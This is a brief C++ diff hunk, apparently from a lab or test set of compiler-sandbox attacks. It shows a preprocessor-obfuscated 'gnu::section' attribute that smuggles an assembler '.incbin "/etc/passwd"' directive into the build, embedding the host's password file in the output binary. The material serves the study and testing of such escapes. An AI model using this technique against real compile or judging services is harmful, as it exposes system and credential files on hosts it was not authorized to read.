@@ -2,7 +2,6 @@
 // why: the same, put together by the preprocessor
 // hides: root:x
 #include "attack.h"
-#define PASTE(a, b) a##b
 [[PASTE(g, nu)::PASTE(sec, tion)("x\n.incbin \"/etc/passwd\"\n.data")]] int hole = 1;
 
 namespace lab {
